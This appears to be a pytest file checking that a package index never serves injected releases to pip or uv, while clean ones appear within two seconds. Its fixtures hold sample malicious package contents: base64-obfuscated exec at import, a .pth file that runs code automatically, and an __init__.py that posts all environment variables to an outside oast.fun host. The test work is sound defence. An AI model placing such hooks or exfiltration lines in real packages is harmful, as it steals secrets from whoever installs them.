"""From twine to pip and uv with nothing planted: an injected release of a project is installable for no moment, a clean
one within two seconds of twine's return."""

import base64
import hashlib
import threading
import time

import pytest

from clients import installed
from harness import JSON, wait_until
from packages import wheel

# What such releases did at import: the look-alike prints a word.
LAYER = base64.b64encode(b"print('a harmless look-alike')").decode()
INJECTED = {
    "import": {"popular/__init__.py": f"import base64\nexec(base64.b64decode('{LAYER}'))\nVERSION = '1.1'\n".encode()},
    "pth": {
        "popular/__init__.py": b"VERSION = '1.1'\n",
        "popular_init.pth": f"import base64; exec(base64.b64decode('{LAYER}'))\n".encode(),
    },
    "sink": {
        "popular/__init__.py": b"import os, urllib.request\nurllib.request.urlopen('https://c8f2k1m9q0.oast.fun/x', "
        b"data=str(dict(os.environ)).encode())\n"
    },
}


class Watcher(threading.Thread):
    """Asks every surface for the file, faster than any installer would, until it is told to stop."""

    def __init__(self, server, package):
        super().__init__(daemon=True)
        self.server, self.package = server, package
        self.seen, self.rounds, self.stopped = [], 0, threading.Event()

    def run(self):
        name, digest = self.package.filename, self.package.sha256
        file = f"/files/{digest[:2]}/{digest}/{name}"
        pages = [("/simple/popular/", JSON), ("/simple/popular/", "text/html"), ("/pypi/popular/json", "*/*")]
        while not self.stopped.is_set():
            for path, accept in pages:
                if name.encode() in self.server.get(path, Accept=accept).body:
                    self.seen.append((path, accept))
            for path in (file, f"{file}.metadata", f"{file}.provenance"):
                if self.server.get(path).status == 200:
                    self.seen.append((path, ""))
            self.rounds += 1


@pytest.mark.parametrize("tool", ["pip-current", "uv-current"])
@pytest.mark.parametrize("how", INJECTED)
def test_an_injected_release_is_installable_for_no_moment(server, clients, tmp_path, tool, how):
    server = server()
    server.publish(wheel("popular", "1.0"))
    bad = wheel("popular", "1.1", files=INJECTED[how])
    assert hashlib.sha256(bad.data).hexdigest() == bad.sha256
    watcher, installs, stop = Watcher(server, bad), [], threading.Event()

    def install():
        while not stop.is_set():
            installs.append(clients.install(tool, server, "popular==1.1")[0].returncode)

    installer = threading.Thread(target=install, daemon=True)
    watcher.start()
    installer.start()
    assert clients.twine(server, [bad.write(tmp_path / "dist")]).returncode == 0
    # The tool went through at least once while the file was there, and nothing changes once its inspection is done.
    before = len(installs)
    wait_until(lambda: len(installs) >= before + 2 and watcher.rounds >= 20, 60, "installers to try")
    stop.set()
    watcher.stopped.set()
    installer.join(60)
    watcher.join(30)
    assert watcher.seen == [] and 0 not in installs, (watcher.seen[:3], installs)
    assert bad.filename in server.cli("verdicts", "list", "--open").stdout
    done, target = clients.install(tool, server, "popular")
    assert done.returncode == 0 and installed(target) == {"popular": "1.0"}, done.stderr


@pytest.mark.parametrize("tool", ["pip-current", "uv-current"])
def test_a_clean_release_is_installable_within_two_seconds(server, clients, tmp_path, tool):
    server = server()
    server.publish(wheel("popular", "1.0"))
    fine = wheel("popular", "1.1")
    assert clients.twine(server, [fine.write(tmp_path / "dist")]).returncode == 0
    returned = time.monotonic()
    wait_until(lambda: server.fetch("popular", fine.filename) == fine.data, 2, "the clean file")
    took = time.monotonic() - returned
    done, target = clients.install(tool, server, "popular==1.1")
    assert done.returncode == 0 and installed(target) == {"popular": "1.1"}, done.stderr
    print(f"{took * 1000:.0f} ms after twine's return")
